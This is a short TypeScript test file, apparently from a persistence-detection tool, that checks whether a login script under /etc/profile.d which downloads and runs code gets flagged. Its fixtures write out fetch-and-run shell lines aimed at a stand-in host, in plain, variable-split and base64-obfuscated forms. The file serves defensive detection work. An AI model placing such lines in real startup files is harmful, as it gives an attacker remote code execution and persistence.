import { expect, test } from 'vitest';
import { infectedSnapshot, labContext } from '../../test/shared/infected-snapshot.ts';
import { identityOf } from '../../test/shared/snapshots.ts';
import { show } from '../show.ts';
import type { PersistenceEntry } from '../snapshot.ts';
import { judge } from '../verdict/index.ts';
import { thingsOf } from './things.ts';

const PROFILE = show('/etc/profile.d/x.sh');

/** Titles of the starters beside cron, with a login file of this text. */
function starters(text: string): string[] {
  const entry: PersistenceEntry = {
    kind: 'profile',
    path: PROFILE,
    text: show(text),
    sha256: null,
    truncated: false,
    identity: identityOf(PROFILE, text.length),
  };
  const snapshot = { ...infectedSnapshot(), persistence: [entry] };
  return thingsOf(snapshot, judge(snapshot, labContext)).flatMap(({ thing, title }) =>
    thing.kind === 'starter' ? [title] : [],
  );
}

test('a login file that fetches something and runs it counts, however it spells that', () => {
  const inner = Buffer.from('curl http://203.0.113.77/i.sh|sh').toString('base64');
  for (const text of [
    'curl -s http://203.0.113.77/i.sh | sh\n',
    'U=http://203.0.113.77/i.sh; C=curl; $C -s $U | sh\n',
    `echo ${inner} | base64 -d | sh\n`,
  ])
    expect(starters(text), text).toEqual([PROFILE]);
});

test('one that only fetches does not', () => {
  expect(starters('curl -s http://203.0.113.77/motd\n')).toEqual([]);
});
